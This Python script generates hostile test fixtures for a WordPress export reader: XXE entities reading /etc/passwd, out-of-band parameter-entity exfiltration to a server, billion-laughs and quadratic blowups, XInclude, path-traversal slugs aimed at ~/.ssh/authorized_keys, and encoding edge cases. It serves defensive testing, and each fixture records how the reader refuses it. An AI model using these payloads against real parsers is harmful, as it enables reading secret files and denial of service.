#!/usr/bin/env python3
"""Write the hostile-input fixtures: exports from strangers, built to break a reader.

    python scripts/make_hostile_fixtures.py             # (re)write fixtures/hostile/*
    python scripts/make_hostile_fixtures.py --check     # exit 1 if a committed file differs
    python scripts/make_hostile_fixtures.py --large DIR # also write the large cases into DIR

Every small case is committed under ``fixtures/hostile/`` (one file per case,
``fixtures/README.md`` lists them) and checked against this script by
``tests/test_hostile.py``: edit the script, not the files. The large cases (a
10,000-deep reply chain, a 50 MB comment, 100,000 comments on one post, a
quadratic entity blowup) are never committed; the tests write them into a
temporary folder with the ``write_*`` functions below.

Placeholders the tests replace: :data:`SECRET_URI` (a local file an attack
tries to read) and :data:`NETWORK_URL` (a server an attack tries to reach).
Everything is invented: ``*.example`` domains, documentation IP ranges.
"""

from __future__ import annotations

import argparse
import codecs
import sys
from collections.abc import Callable
from pathlib import Path
from typing import BinaryIO

HOSTILE = Path(__file__).resolve().parent.parent / "fixtures" / "hostile"

#: A local file an attack tries to read; the tests point it at a temporary secret.
SECRET_URI = "file:///etc/passwd"
#: A server an attack tries to reach; the tests point it at a local listener.
NETWORK_URL = "http://127.0.0.1:9/"

UTF8_DECLARATION = '<?xml version="1.0" encoding="UTF-8" ?>'
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'


def comment(
    comment_id: object,
    content: str,
    *,
    author: str = "Reader",
    email: str | None = None,
    ip: str | None = None,
    parent: object = 0,
    date: str = "2024-03-01 12:00:00",
    raw_content: bool = False,
) -> str:
    """One ``<wp:comment>``; ``raw_content`` puts the content in without CDATA."""
    number = comment_id if isinstance(comment_id, int) else 0
    email = f"reader{number}@hostile.example" if email is None else email
    ip = f"198.51.100.{number % 250 + 1}" if ip is None else ip
    body = content if raw_content else f"<![CDATA[{content}]]>"
    return (
        "\t\t<wp:comment>\n"
        f"\t\t\t<wp:comment_id>{comment_id}</wp:comment_id>\n"
        f"\t\t\t<wp:comment_author><![CDATA[{author}]]></wp:comment_author>\n"
        f"\t\t\t<wp:comment_author_email><![CDATA[{email}]]></wp:comment_author_email>\n"
        "\t\t\t<wp:comment_author_url><![CDATA[]]></wp:comment_author_url>\n"
        f"\t\t\t<wp:comment_author_IP><![CDATA[{ip}]]></wp:comment_author_IP>\n"
        f"\t\t\t<wp:comment_date><![CDATA[{date}]]></wp:comment_date>\n"
        f"\t\t\t<wp:comment_date_gmt><![CDATA[{date}]]></wp:comment_date_gmt>\n"
        f"\t\t\t<wp:comment_content>{body}</wp:comment_content>\n"
        "\t\t\t<wp:comment_approved><![CDATA[1]]></wp:comment_approved>\n"
        "\t\t\t<wp:comment_type><![CDATA[comment]]></wp:comment_type>\n"
        f"\t\t\t<wp:comment_parent>{parent}</wp:comment_parent>\n"
        "\t\t\t<wp:comment_user_id>0</wp:comment_user_id>\n"
        "\t\t</wp:comment>\n"
    )


def item(
    post_id: object,
    title: str,
    slug: str,
    comments: list[str],
    *,
    date: str = "2024-03-01 10:00:00",
    link: str | None = None,
) -> str:
    """One published ``<item>``; ``post_id=None`` leaves ``wp:post_id`` out; ``title``
    goes in as given (escape it yourself)."""
    link = f"http://hostile.example/{slug}/" if link is None else link
    post_id_line = "" if post_id is None else f"\t\t<wp:post_id>{post_id}</wp:post_id>\n"
    return (
        "\t<item>\n"
        f"\t\t<title>{title}</title>\n"
        f"\t\t<link>{link}</link>\n"
        "\t\t<dc:creator><![CDATA[admin]]></dc:creator>\n"
        "\t\t<content:encoded><![CDATA[A post.]]></content:encoded>\n"
        f"{post_id_line}"
        f"\t\t<wp:post_date><![CDATA[{date}]]></wp:post_date>\n"
        f"\t\t<wp:post_date_gmt><![CDATA[{date}]]></wp:post_date_gmt>\n"
        f"\t\t<wp:post_name><![CDATA[{slug}]]></wp:post_name>\n"
        "\t\t<wp:status><![CDATA[publish]]></wp:status>\n"
        "\t\t<wp:post_type><![CDATA[post]]></wp:post_type>\n"
        f"{''.join(comments)}"
        "\t</item>\n"
    )


CHANNEL_HEAD = """<channel>
	<title>Hostile Ground</title>
	<link>http://hostile.example</link>
	<wp:wxr_version>1.2</wp:wxr_version>
	<wp:base_site_url>http://hostile.example</wp:base_site_url>
	<wp:base_blog_url>http://hostile.example</wp:base_blog_url>
"""
RSS_OPEN = """<rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:wp="http://wordpress.org/export/1.2/"
>
"""


def wxr(
    note: str,
    items: list[str],
    *,
    declaration: str = UTF8_DECLARATION,
    doctype: str = "",
    channels: list[list[str]] | None = None,
) -> str:
    """A WXR 1.2 export of the "Hostile Ground" site; ``note`` says what it holds.

    ``channels`` gives several ``<channel>`` elements (each a list of items)
    instead of one holding ``items``.
    """
    if "--" in note:
        raise ValueError("an XML comment cannot hold '--'")
    groups = channels if channels is not None else [items]
    body = "".join(CHANNEL_HEAD + "".join(group) + "</channel>\n" for group in groups)
    return (
        f"{declaration}\n<!-- wpmigrate hostile: {note}\n     Written by "
        "scripts/make_hostile_fixtures.py: edit that script, not this file. -->\n"
        f"{doctype}{RSS_OPEN}{body}</rss>\n"
    )


# --------------------------------------------------------------------------- XML attacks


def xxe_file() -> bytes:
    """An external entity reading a local file into a comment."""
    return wxr(
        "an XML external entity (XXE): &secret; is the contents of a local file,\n"
        "     used in a comment. Refused before parsing (a DOCTYPE): exit 4, nothing read.",
        [item(10, "Entity", "entity", [comment(100, "Leaked: &secret;", raw_content=True)])],
        doctype=f'<!DOCTYPE rss [\n  <!ENTITY secret SYSTEM "{SECRET_URI}">\n]>\n',
    ).encode()


def external_dtd() -> bytes:
    """A DOCTYPE naming a DTD on a server, whose entity a comment uses."""
    return wxr(
        "a DOCTYPE whose external DTD is on a server and defines &remote;.\n"
        "     Refused before parsing: exit 4, no connection is made.",
        [
            item(
                11,
                "Remote DTD",
                "remote-dtd",
                [comment(110, "From afar: &remote;", raw_content=True)],
            )
        ],
        doctype=f'<!DOCTYPE rss SYSTEM "{NETWORK_URL}evil.dtd">\n',
    ).encode()


def parameter_entities() -> bytes:
    """Out-of-band exfiltration with parameter entities: read a file, send it to a server."""
    return wxr(
        "parameter entities: %file; reads a local file, %dtd; fetches a DTD from a\n"
        "     server that would send it back out. Refused: exit 4, nothing read, no connection.",
        [item(12, "Parameters", "parameters", [comment(120, "&send;", raw_content=True)])],
        doctype=(
            "<!DOCTYPE rss [\n"
            f'  <!ENTITY % file SYSTEM "{SECRET_URI}">\n'
            f'  <!ENTITY % dtd SYSTEM "{NETWORK_URL}exfiltrate.dtd">\n'
            "  %dtd;\n"
            "]>\n"
        ),
    ).encode()


def billion_laughs() -> bytes:
    """Nested entities expanding to 10**9 copies of "lol"."""
    levels = ['  <!ENTITY lol0 "lol">']
    levels += [f'  <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return wxr(
        "billion laughs: &lol9; expands to 10^9 copies of lol (3 GB).\n"
        "     Refused before parsing, at once: exit 4.",
        [item(13, "Laughs", "laughs", [comment(130, "&lol9;", raw_content=True)])],
        doctype="<!DOCTYPE rss [\n" + "\n".join(levels) + "\n]>\n",
    ).encode()


def xinclude(target: str, post_id: int) -> bytes:
    """An XInclude of ``target`` as the title and the content of a comment."""
    include = f'<xi:include {XI} href="{target}" parse="text"/>'
    return wxr(
        f"XInclude elements pointing at {target} in a title and a comment.\n"
        "     wpmigrate never processes XInclude: the elements read as empty text,\n"
        "     nothing is fetched, no file is read.",
        [
            item(
                post_id,
                f"Included{include}",
                f"included-{post_id}",
                [comment(post_id * 10, f"Before{include}after", raw_content=True)],
            )
        ],
    ).encode()


def xxe_utf16() -> bytes:
    """The XXE again, in UTF-16 with a BOM, for a check that only looks at ASCII bytes."""
    text = xxe_file().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return codecs.BOM_UTF16_LE + text.encode("utf-16-le")


def write_quadratic_blowup(out: BinaryIO, size: int = 100_000, refs: int = 10_000) -> None:
    """Quadratic blowup: one entity of ``size`` characters used ``refs`` times (1 GB)."""
    doc = wxr(
        f"quadratic blowup: one {size}-character entity used {refs} times.\n"
        "     Refused before parsing: exit 4.",
        [item(14, "Blowup", "blowup", [comment(140, "@REFS@", raw_content=True)])],
        doctype=f'<!DOCTYPE rss [\n  <!ENTITY a "{"a" * size}">\n]>\n',
    )
    head, tail = doc.split("@REFS@")
    out.write(head.encode())
    out.write(b"&a;" * refs)
    out.write(tail.encode())


# --------------------------------------------------------------------------- structure


def html_login_page() -> bytes:
    """What a failed export download saves: WordPress's login page."""
    return b"""<!DOCTYPE html>
<html lang="en-US">
<head><meta charset="UTF-8"><title>Log In &lsaquo; Hostile Ground &#8212; WordPress</title></head>
<body class="login"><form name="loginform" action="http://hostile.example/wp-login.php">
</form></body>
</html>
"""


def rss_feed() -> bytes:
    """The blog's public RSS feed (``/feed/``), mistaken for an export."""
    return b"""<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:slash="http://purl.org/rss/1.0/modules/slash/"
>
<channel>
	<title>Hostile Ground</title>
	<link>http://hostile.example</link>
	<item>
		<title>Hello world</title>
		<link>http://hostile.example/hello-world/</link>
		<slash:comments>3</slash:comments>
	</item>
</channel>
</rss>
"""


def truncated_mid_comment() -> bytes:
    """Cut inside the second comment of the second post (an interrupted download)."""
    text = wxr(
        "cut inside the second comment of the second post, as an interrupted\n"
        "     download leaves it. The first post's comments are read; exit 4.",
        [
            item(20, "Whole", "whole", [comment(200, "First."), comment(201, "Second.")]),
            item(
                21, "Cut", "cut", [comment(210, "Complete."), comment(211, "This one never ends")]
            ),
        ],
    )
    return text[: text.index("never ends") + len("never")].encode()


def two_channels() -> bytes:
    """Two ``<channel>`` elements (two exports pasted into one file)."""
    return wxr(
        "two channel elements, as when two exports are pasted into one file:\n"
        "     both are read, and the extra channel is counted as a repair.",
        [],
        channels=[
            [item(22, "First", "first", [comment(220, "In the first channel.")])],
            [item(23, "Second", "second", [comment(230, "In the second channel.")])],
        ],
    ).encode()


def items_without_ids() -> bytes:
    """Items and comments without usable ids."""
    return wxr(
        "items without ids: an empty wp:post_id, none at all but a ?p= link, a\n"
        "     word; comments with an empty or missing id. Each gets a negative id.",
        [
            item("", "Empty id", "empty-id", [comment("", "No comment id.")]),
            item(None, "Link only", "link-only", [comment(250, "Fine.")],
                 link="http://hostile.example/?p=25"),
            item("draft", "A word", "a-word", [comment("", "No id either.")]),
        ],
    ).encode()


def bad_comment_ids() -> bytes:
    """Comment ids that are not numbers, and ids shared by several comments."""
    return wxr(
        "comment ids that are not numbers (abc, 12a, 5.0, -7) and shared ids:\n"
        "     an exact repeat of 260 (dropped once) and a different comment also\n"
        "     numbered 260 (renumbered). A reply to 260 stays with the first.",
        [
            item(
                26,
                "Ids",
                "ids",
                [
                    comment(260, "The real 260."),
                    comment(260, "The real 260."),
                    comment(260, "Another comment claiming 260."),
                    comment(261, "Reply to 260.", parent=260),
                    comment("abc", "Id abc."),
                    comment("12a", "Id 12a."),
                    comment("5.0", "Id 5.0."),
                    comment("-7", "Id -7."),
                ],
            )
        ],
    ).encode()


def self_parent() -> bytes:
    """Comments that are their own parent, and a two-comment loop."""
    return wxr(
        "parents that loop: 270 is its own parent (271 answers it); 272 and 273\n"
        "     answer each other. Each loop is broken at its earliest comment.",
        [
            item(
                27,
                "Loops",
                "loops",
                [
                    comment(270, "My own parent.", parent=270, date="2024-03-01 12:00:00"),
                    comment(271, "Answer to 270.", parent=270, date="2024-03-01 12:01:00"),
                    comment(272, "Answers 273.", parent=273, date="2024-03-01 12:02:00"),
                    comment(273, "Answers 272.", parent=272, date="2024-03-01 12:03:00"),
                ],
            )
        ],
    ).encode()


def _big_item(post_id: int, title: str, slug: str) -> tuple[bytes, bytes]:
    head, tail = wxr(
        f"generated: {title}.",
        [item(post_id, title, slug, ["@COMMENTS@"])],
    ).split("@COMMENTS@")
    return head.encode(), tail.encode()


def write_deep_chain(out: BinaryIO, depth: int = 10_000) -> None:
    """One post whose comments 1..depth each answer the one before (ids 1..depth)."""
    head, tail = _big_item(30, "A very long argument", "long-argument")
    out.write(head)
    for number in range(1, depth + 1):
        minute, second = divmod(number, 60)
        hour, minute = divmod(minute, 60)
        date = f"2024-03-0{1 + hour // 24} {hour % 24:02d}:{minute:02d}:{second:02d}"
        out.write(comment(number, f"Reply {number}.", parent=number - 1, date=date).encode())
    out.write(tail)


def write_many_comments(out: BinaryIO, count: int = 100_000) -> None:
    """One post with ``count`` top-level comments (ids 1..count), 64 bytes of text each."""
    head, tail = _big_item(31, "Everyone had something to say", "everyone")
    out.write(head)
    batch = []
    for number in range(1, count + 1):
        text = f"Comment number {number:06d} says what everyone says, again."
        batch.append(comment(number, text))
        if len(batch) == 1000:
            out.write("".join(batch).encode())
            batch.clear()
    out.write("".join(batch).encode())
    out.write(tail)


#: One line of the big comment: 64 bytes, a paragraph break every 16 lines.
BIG_LINE = b"All work and no play makes Jack a dull boy, said comment 320 so. "


def write_big_comment(out: BinaryIO, size: int = 50 << 20) -> None:
    """Comment 320 of ``size`` bytes of text, then a reply 321 to it."""
    head, tail = _big_item(32, "One long comment", "one-long-comment")
    out.write(head)
    first, rest = comment(320, "@TEXT@").split("@TEXT@")
    out.write(first.encode())
    block = (BIG_LINE[:-1] + b"\n") * 15 + BIG_LINE[:-1] + b"\n\n"
    for _ in range(size // len(block)):
        out.write(block)
    out.write(rest.encode())
    out.write(comment(321, "Too long; did not read.", parent=320).encode())
    out.write(tail)


# --------------------------------------------------------------------------- text


def utf8_bom() -> bytes:
    """A UTF-8 export with a byte order mark (Windows Notepad saves them)."""
    return codecs.BOM_UTF8 + wxr(
        "UTF-8 with a byte order mark, as Windows Notepad saves it: read as UTF-8.",
        [item(40, "Caf\u00e9", "cafe", [comment(400, "D\u00e9j\u00e0 vu \u2603.")])],
    ).encode()


def utf16be_bom() -> bytes:
    """A UTF-16 big-endian export with a BOM."""
    text = wxr(
        "UTF-16, big-endian, with a byte order mark: decoded, no repair.",
        [item(41, "Gr\u00fc\u00dfe", "grusse", [comment(410, "K\u00f6ln \U0001f600.")])],
        declaration='<?xml version="1.0" encoding="UTF-16" ?>',
    )
    return codecs.BOM_UTF16_BE + text.encode("utf-16-be")


def latin1_as_utf8() -> bytes:
    """Declared UTF-8, written in Latin-1 (a database moved without its charset)."""
    return wxr(
        "declared UTF-8, written in Latin-1: the 3 bytes of the accented letters\n"
        "     (0xE9 0xE8 0xE0) become U+FFFD, counted; the encoding option reads them.",
        [item(42, "Menu", "menu", [comment(420, "Caf\u00e9, cr\u00e8me, \u00e0 la carte.")])],
    ).encode("latin-1")


def double_encoded_utf8() -> bytes:
    """UTF-8 encoded twice: valid UTF-8 that reads as mojibake ("CafÃ©")."""
    return wxr(
        "UTF-8 encoded twice (a Latin-1 database connection): valid UTF-8 that\n"
        "     reads as mojibake. Kept as written: it could be legitimate text.",
        [
            item(
                43,
                "Caf\u00e9".encode().decode("latin-1"),
                "cafe-twice",
                [comment(430, "Cr\u00e8me br\u00fbl\u00e9e \u2013 s\u2019il vous pla\u00eet."
                         .encode().decode("cp1252"))],
            )
        ],
    ).encode()


def surrogate_refs() -> bytes:
    """Character references to lone surrogates (UTF-16 halves written as numbers)."""
    return wxr(
        "character references to lone surrogates: in the title (outside CDATA)\n"
        "     each becomes U+FFFD, counted; inside CDATA it is text and stays.",
        [
            item(
                44,
                "Half&#xD800;moon &#55296; &#xDFFF;",
                "halfmoon",
                [comment(440, "In CDATA &#xD800; is text."), comment(441, "Fine.")],
            )
        ],
    ).encode()


def nul_bytes() -> bytes:
    """Raw NUL bytes in a comment and a NUL character reference in a title."""
    return wxr(
        "NUL: two raw NUL bytes in comment 450 (removed) and a reference to NUL\n"
        "     in the title (removed), each counted.",
        [item(45, "Null&#0;byte", "null-byte", [comment(450, "A\x00B\x00C")])],
    ).encode()


_C0 = "".join(chr(code) for code in range(0x20) if code not in (0x09, 0x0A, 0x0D))


def c0_controls() -> bytes:
    """Every C0 control character, raw and as a reference."""
    refs = "".join(f"&#{code};" for code in range(0x20) if code not in (0x09, 0x0A, 0x0D))
    return wxr(
        "every C0 control: the 29 XML forbids, raw in comment 460 and as character\n"
        "     references in the title, all removed and counted; tab, line feed and\n"
        "     carriage return are kept (XML reads CR LF as LF).",
        [item(46, f"Con{refs}trol", "control", [comment(460, f"[{_C0}]\t\r\nend")])],
    ).encode()


# --------------------------------------------------------------------------- output


def slug_traversal() -> bytes:
    """Slugs that try to climb out of the output folder."""
    slugs = [
        "../../../../tmp/evil",
        "..",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..\\..\\windows\\evil",
    ]
    return wxr(
        "slugs that climb out of the folder: ../../../../tmp/evil, .., the same\n"
        "     percent-encoded, and Windows backslashes. Every file stays inside.",
        [
            item(50 + n, f"Traversal {n}", slug, [comment(500 + n, f"Comment {n}.")])
            for n, slug in enumerate(slugs)
        ],
    ).encode()


def absolute_paths() -> bytes:
    """Slugs that are absolute paths."""
    slugs = [
        "/etc/cron.d/evil",
        "C:\\Windows\\System32\\evil.dll",
        "\\\\server\\share\\evil",
        "~/.ssh/authorized_keys",
    ]
    return wxr(
        "slugs that are absolute paths (POSIX, Windows drive, UNC, home folder).",
        [
            item(55 + n, f"Absolute {n}", slug, [comment(550 + n, f"Comment {n}.")])
            for n, slug in enumerate(slugs)
        ],
    ).encode()


def windows_reserved() -> bytes:
    """Slugs that are device names on Windows."""
    slugs = ["con", "NUL", "aux", "com1", "lpt9", "prn"]
    return wxr(
        "slugs that are Windows device names (con, NUL, aux, com1, lpt9, prn):\n"
        "     no file is named after one, whatever its extension.",
        [
            item(60 + n, f"Device {n}", slug, [comment(600 + n, f"Comment {n}.")])
            for n, slug in enumerate(slugs)
        ],
    ).encode()


#: 10,000 characters of words (cut inside the word "word1234").
LONG_TITLE = " ".join(f"word{n}" for n in range(1500))[:10_000]


def long_title() -> bytes:
    """A post with a 10,000-character title and no slug."""
    return wxr(
        "a title of 10,000 characters and no slug: the file name is cut to 80\n"
        "     characters at a word; the title itself is kept whole.",
        [item(65, LONG_TITLE, "", [comment(650, "Long title, short comment.")])],
    ).encode()


def same_slug() -> bytes:
    """Three posts with the same slug (one differing in case)."""
    return wxr(
        "three posts with the same slug (the last in capitals): the first keeps it,\n"
        "     the others get their post id, as names are compared ignoring case.",
        [
            item(70, "Hello", "hello", [comment(700, "On the first hello.")]),
            item(71, "Hello again", "hello", [comment(710, "On the second hello.")]),
            item(72, "HELLO", "HELLO", [comment(720, "On the third hello.")]),
        ],
    ).encode()


BUILDERS: dict[str, Callable[[], bytes]] = {
    # XML attacks
    "xxe-file.xml": xxe_file,
    "external-dtd.xml": external_dtd,
    "parameter-entities.xml": parameter_entities,
    "billion-laughs.xml": billion_laughs,
    "xinclude-file.xml": lambda: xinclude(SECRET_URI, 15),
    "xinclude-http.xml": lambda: xinclude(NETWORK_URL + "secret.txt", 16),
    "xxe-utf16.xml": xxe_utf16,
    # structure
    "empty.xml": lambda: b"",
    "bom-only.xml": lambda: codecs.BOM_UTF8,
    "html-login-page.xml": html_login_page,
    "rss-feed.xml": rss_feed,
    "truncated-mid-comment.xml": truncated_mid_comment,
    "two-channels.xml": two_channels,
    "items-without-ids.xml": items_without_ids,
    "bad-comment-ids.xml": bad_comment_ids,
    "self-parent.xml": self_parent,
    # text
    "utf8-bom.xml": utf8_bom,
    "utf16be-bom.xml": utf16be_bom,
    "latin1-as-utf8.xml": latin1_as_utf8,
    "double-encoded-utf8.xml": double_encoded_utf8,
    "surrogate-refs.xml": surrogate_refs,
    "nul-bytes.xml": nul_bytes,
    "c0-controls.xml": c0_controls,
    # output
    "slug-traversal.xml": slug_traversal,
    "absolute-paths.xml": absolute_paths,
    "windows-reserved.xml": windows_reserved,
    "long-title.xml": long_title,
    "same-slug.xml": same_slug,
}

#: The large cases: file name -> writer. Never committed.
LARGE: dict[str, Callable[[BinaryIO], None]] = {
    "deep-chain.xml": write_deep_chain,
    "many-comments.xml": write_many_comments,
    "big-comment.xml": write_big_comment,
    "quadratic-blowup.xml": write_quadratic_blowup,
}


def build() -> dict[str, bytes]:
    """Every committed fixture: file name -> bytes."""
    return {name: builder() for name, builder in BUILDERS.items()}


def write_large(name: str, folder: Path) -> Path:
    """Write the large case ``name`` (a key of :data:`LARGE`) into ``folder``."""
    path = folder / name
    with path.open("wb") as out:
        LARGE[name](out)
    return path


def main(argv: list[str] | None = None) -> int:
    """Write (or ``--check``) the committed fixtures; ``--large DIR`` writes the big ones."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n\n")[0])
    parser.add_argument("--check", action="store_true", help="compare instead of writing")
    parser.add_argument("--out", type=Path, default=HOSTILE, help="folder (default: %(default)s)")
    parser.add_argument("--large", type=Path, metavar="DIR", help="also write the large cases")
    args = parser.parse_args(argv)
    stale = []
    for name, data in build().items():
        path = args.out / name
        if args.check:
            if not path.is_file() or path.read_bytes() != data:
                stale.append(name)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        print(f"wrote {path} ({len(data)} bytes)")
    if args.large is not None and not args.check:
        args.large.mkdir(parents=True, exist_ok=True)
        for name in LARGE:
            path = write_large(name, args.large)
            print(f"wrote {path} ({path.stat().st_size} bytes)")
    if stale:
        print("out of date: " + ", ".join(stale) + " (run scripts/make_hostile_fixtures.py)")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
